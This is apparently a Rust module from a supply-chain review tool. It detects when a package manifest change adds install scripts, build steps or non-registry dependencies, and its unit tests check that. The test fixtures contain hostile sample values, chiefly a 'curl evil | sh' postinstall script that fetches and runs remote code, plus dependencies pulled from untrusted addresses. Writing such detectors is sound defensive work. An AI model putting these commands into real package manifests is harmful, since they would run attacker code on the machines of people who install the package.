//! Manifests of packages, read for what they make run: scripts, hooks, build steps, and packages from
//! elsewhere than the registry. What stands where is data: `manifests.toml`.
//!
//! A manifest changes often and for harmless reasons, so its name alone says little. What it makes
//! run when somebody installs, builds or tests is said by name.

mod read;

use std::collections::BTreeMap;
use std::sync::LazyLock;

use bstr::{BStr, ByteSlice};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use self::read::Format;
use crate::text;

/// A larger manifest is not read.
const LARGEST: usize = 1 << 20;
/// Characters of a command that are shown.
const SHOWN: usize = 100;

/// Something that a manifest makes run that it did not before.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Run {
    /// What it is and the command, in words and escaped for a terminal.
    pub what: String,
    /// Whether it runs by itself when somebody installs the package.
    pub on_install: bool,
}

/// A manifest, and where in it something stands that runs. Paths are keys between slashes.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Manifest {
    /// In lower case.
    names: Vec<String>,
    format: Format,
    /// Where its format is documented.
    #[cfg_attr(not(test), expect(dead_code, reason = "for whoever reads the data; a test reads it"))]
    source: String,
    #[serde(default)]
    on_install: Vec<String>,
    #[serde(default)]
    entries: BTreeMap<String, String>,
    #[serde(default)]
    settings: BTreeMap<String, String>,
    #[serde(default)]
    fetched: BTreeMap<String, String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Table {
    manifest: Vec<Manifest>,
}

static MANIFESTS: LazyLock<Vec<Manifest>> = LazyLock::new(|| {
    let table: Table = toml::from_str(include_str!("manifests.toml")).expect("a test reads it");
    table.manifest
});

/// What a manifest makes run: the keys where each thing stands, what it is, and its value. Two things
/// of one name differ in their keys.
type Runs = BTreeMap<Vec<String>, (String, String)>;

/// What a change of the manifest at `path` adds or changes that runs. Empty if the file is no
/// manifest, or nothing of it runs that did not before.
pub(super) fn changes(path: &BStr, old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<Run> {
    let name = path.rsplit_once_str("/").map_or(path.as_bytes(), |(_, name)| name).to_str_lossy().to_lowercase();
    let manifest = MANIFESTS.iter().find(|manifest| manifest.names.contains(&name));
    let (Some(manifest), Some(new)) = (manifest, new) else { return Vec::new() };
    let before = old.and_then(|old| manifest.runs(old)).unwrap_or_default();
    let Some(after) = manifest.runs(new) else {
        return vec![Run { what: "something that cannot be read".to_owned(), on_install: false }];
    };
    let is_new = |(keys, run): &(Vec<String>, (String, String))| before.get(keys) != Some(run);
    let run = |(keys, (what, value)): (Vec<String>, (String, String))| {
        let on_install = manifest.on_install.contains(&keys.join("/"));
        Run { what: format!("{what}: {}", command(&value)), on_install }
    };
    after.into_iter().filter(is_new).map(run).collect()
}

/// A command in one row.
fn command(value: &str) -> String {
    let shown = text::name(value.as_bytes());
    match shown.char_indices().nth(SHOWN) {
        Some((end, _)) => format!("{}…", &shown[..end]),
        None => shown,
    }
}

impl Manifest {
    /// Everything that the manifest makes run. `None` if it cannot be read.
    fn runs(&self, content: &[u8]) -> Option<Runs> {
        let content = content.strip_prefix("\u{feff}".as_bytes()).unwrap_or(content);
        let content = str::from_utf8(content).ok().filter(|content| content.len() <= LARGEST)?;
        let content = self.format.read(content)?;
        let mut runs = Runs::new();
        for (place, what) in &self.settings {
            find(&content, place, &mut |keys, found| {
                runs.insert(keys.to_vec(), (what.clone(), words(found)));
            });
        }
        for (place, what) in &self.entries {
            find(&content, place, &mut |keys, found| {
                for (keys, name, value) in each(keys, found) {
                    runs.insert(keys, (called(what, &name), words(value)));
                }
            });
        }
        for (place, what) in &self.fetched {
            find(&content, place, &mut |keys, found| {
                for (keys, name, value) in each(keys, found).into_iter().filter(|(.., value)| is_elsewhere(value)) {
                    let what = called(what, &name);
                    runs.insert(keys, (format!("{what}, which is not from the registry"), words(value)));
                }
            });
        }
        Some(runs)
    }
}

/// Calls `note` with the keys and the value of everything at `place`.
fn find(value: &Value, place: &str, note: &mut dyn FnMut(&[String], &Value)) {
    fn below(value: &Value, place: &[&str], keys: &mut Vec<String>, note: &mut dyn FnMut(&[String], &Value)) {
        let Some((wanted, rest)) = place.split_first() else { return note(keys, value) };
        let Value::Object(table) = value else { return };
        for (key, value) in table {
            if *wanted == "*" || *wanted == key || *wanted == key.replace('_', "-") {
                keys.push(key.clone());
                below(value, rest, keys, note);
                keys.pop();
            }
        }
    }
    below(value, &place.split('/').collect::<Vec<_>>(), &mut Vec::new(), note);
}

/// The entries of a table, or the items of a list: the keys of each, its name if it has one, and its
/// value. What is neither is its own only entry.
fn each<'a>(keys: &[String], found: &'a Value) -> Vec<(Vec<String>, String, &'a Value)> {
    let below = |key: &str| [keys, &[key.to_owned()]].concat();
    match found {
        Value::Object(table) => table.iter().map(|(name, value)| (below(name), name.clone(), value)).collect(),
        // By its content: an item that is moved is no other.
        Value::Array(items) => items.iter().map(|item| (below(&words(item)), String::new(), item)).collect(),
        value => vec![(keys.to_vec(), String::new(), value)],
    }
}

fn called(what: &str, name: &str) -> String {
    if name.is_empty() { what.to_owned() } else { format!("{what} {}", text::name(name.as_bytes())) }
}

/// Whether a dependency is fetched by an address instead of its name.
fn is_elsewhere(dependency: &Value) -> bool {
    match dependency {
        Value::String(version) => {
            let local = ["workspace:", "catalog:", "npm:", "jsr:"].iter().any(|kind| version.starts_with(kind));
            !local && (version.contains(':') || version.contains('/'))
        }
        Value::Object(table) => table.iter().any(|(key, value)| match key.as_str() {
            "git" | "url" | "file" | "registry" | "registry-index" | "index" | "source" => true,
            "path" | "features" => false,
            _ => is_elsewhere(value),
        }),
        Value::Array(items) => items.iter().any(is_elsewhere),
        _ => false,
    }
}

fn words(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(path: &str, old: Option<&str>, new: &str) -> Vec<String> {
        let runs = changes(path.into(), old.map(str::as_bytes), Some(new.as_bytes()));
        runs.into_iter().map(|run| if run.on_install { format!("!{}", run.what) } else { run.what }).collect()
    }

    #[test]
    fn every_manifest_has_names_a_source_and_words() {
        for manifest in &*MANIFESTS {
            assert!(manifest.source.starts_with("https://"), "{manifest:?}");
            assert!(manifest.names.iter().all(|name| *name == name.to_lowercase()), "{manifest:?}");
            for (place, what) in [&manifest.entries, &manifest.settings, &manifest.fetched].into_iter().flatten() {
                assert!(!place.is_empty() && what.starts_with(char::is_lowercase), "{place}: {what}");
            }
        }
    }

    #[test]
    fn a_script_that_is_added_or_changed_is_said_with_its_command() {
        let old = r#"{"scripts": {"test": "jest", "build": "tsc"}}"#;
        let new =
            r#"{"scripts": {"test": "jest", "build": "tsc && x", "postinstall": "curl evil | sh"}, "version": "2"}"#;
        assert_eq!(
            said("web/package.json", Some(old), new),
            ["the script build: tsc && x", "!the script postinstall: curl evil | sh"]
        );
        assert_eq!(said("package.json", Some(new), old), ["the script build: tsc"], "what is gone does not run");
        assert_eq!(said("package.json", Some(old), old), [""; 0]);
        assert_eq!(said("other.json", None, new), [""; 0]);
    }

    #[test]
    fn what_runs_is_found_in_every_format() {
        for (path, content, expected) in [
            ("Cargo.toml", "[package]\nbuild = \"x.rs\"\n", "the build script: x.rs"),
            ("a/Cargo.toml", "[lib]\nproc_macro = true\n", "the procedural macro, which runs in the compiler: true"),
            (
                "Cargo.toml",
                "[lib]\ncrate-type = [\"proc-macro\"]\n",
                "the kind of the library, which may run in the compiler: [\"proc-macro\"]",
            ),
            ("Cargo.toml", "[build-dependencies]\ncc = \"1\"\n", "the dependency of the build script cc: 1"),
            (
                "Cargo.toml",
                "[target.'cfg(unix)'.build-dependencies]\ncc = \"1\"\n",
                "the dependency of the build script cc: 1",
            ),
            ("pyproject.toml", "[build-system]\nbuild-backend = \"b\"\n", "the build backend: b"),
            ("pyproject.toml", "[tool.hatch.envs.default.scripts]\na = \"rm\"\n", "the script a: rm"),
            ("pyproject.toml", "[tool.pylint.main]\ninit-hook = \"x\"\n", "the program that pylint runs: x"),
            (
                "setup.cfg",
                "[options]\n  zip_safe = no\n  setup_requires =\n    evil\n    more\n",
                "the packages that the build runs:  evil more",
            ),
            ("composer.json", r#"{"scripts": {"post-install-cmd": ["x"]}}"#, "!the script post-install-cmd: [\"x\"]"),
            ("deno.jsonc", "{ // a comment\n\"tasks\": {\"a\": \"//x\", /* , */ },}", "the task a: //x"),
            ("Pipfile", "[scripts]\na = \"x\"\n", "the script a: x"),
            ("PACKAGE.JSON", "\u{feff}{\"scripts\": {\"prepare\": \"husky\"}}", "!the script prepare: husky"),
            ("package.json", r#"{"bin": "x.js"}"#, "the installed program: x.js"),
        ] {
            assert_eq!(said(path, None, content), [expected], "{path}: {content}");
        }
    }

    #[test]
    fn attack_18_nothing_that_runs_is_hidden_by_another_of_its_name() {
        let npm = r#"{"scripts": {"test": "curl evil | sh"}, "wireit": {"test": {"command": "jest"}}}"#;
        assert_eq!(
            said("package.json", None, npm),
            ["the script test: curl evil | sh", "the script of wireit test: {\"command\":\"jest\"}"]
        );
        let cargo = "[build-dependencies]\ncc = \"=6.6.6\"\n[target.x.build-dependencies]\ncc = \"1\"\n";
        let old = "[target.x.build-dependencies]\ncc = \"1\"\n";
        assert_eq!(said("Cargo.toml", Some(old), cargo), ["the dependency of the build script cc: =6.6.6"]);
        let hatch = "[tool.hatch.envs.a.scripts]\nx = \"evil\"\n[tool.hatch.envs.b.scripts]\nx = \"fine\"\n";
        assert_eq!(said("pyproject.toml", None, hatch), ["the script x: evil", "the script x: fine"]);
    }

    #[test]
    fn a_dependency_that_is_fetched_by_an_address_is_said() {
        for (path, content, expected) in [
            (
                "package.json",
                r#"{"dependencies": {"a": "^1", "b": "evil/b"}}"#,
                "b, which is not from the registry: evil/b",
            ),
            (
                "package.json",
                r#"{"overrides": {"a": {"b": "git+ssh://x"}, "c": {".": "1"}}}"#,
                "a, which is not from the registry: {\"b\":\"git+ssh://x\"}",
            ),
            (
                "Cargo.toml",
                "[dependencies]\na = \"1\"\nb = { path = \"../b\" }\nc = { git = \"https://x\" }\n",
                "c, which is not from the registry: {\"git\":\"https://x\"}",
            ),
            (
                "pyproject.toml",
                "[project]\ndependencies = [\"a>=1\", \"b @ https://x\"]\n",
                "the dependency, which is not from the registry: b @ https://x",
            ),
        ] {
            let said = said(path, None, content);
            assert!(said.len() == 1 && said[0].ends_with(expected), "{path}: {said:?}");
        }
    }

    #[test]
    fn what_cannot_be_read_is_said_too() {
        for (path, content) in [("package.json", "{"), ("Cargo.toml", "= x"), ("setup.cfg", "x\n")] {
            assert_eq!(said(path, None, content), ["something that cannot be read"], "{path}");
        }
        let large = format!("{{\"a\": \"{}\"}}", "x".repeat(LARGEST));
        assert_eq!(said("package.json", None, &large), ["something that cannot be read"]);
        assert_eq!(changes("package.json".into(), Some(b"{"), None), []);
    }

    #[test]
    fn attack_15_a_long_or_strange_command_stays_one_short_row() {
        let said = said("package.json", None, &format!("{{\"scripts\": {{\"a\\nb\": \"{}\"}}}}", "x\\n".repeat(100)));
        assert!(said[0].starts_with("the script a\\nb: x\\nx"), "{said:?}");
        assert!(said[0].chars().count() < 150 && said[0].ends_with('…'), "{said:?}");
    }
}
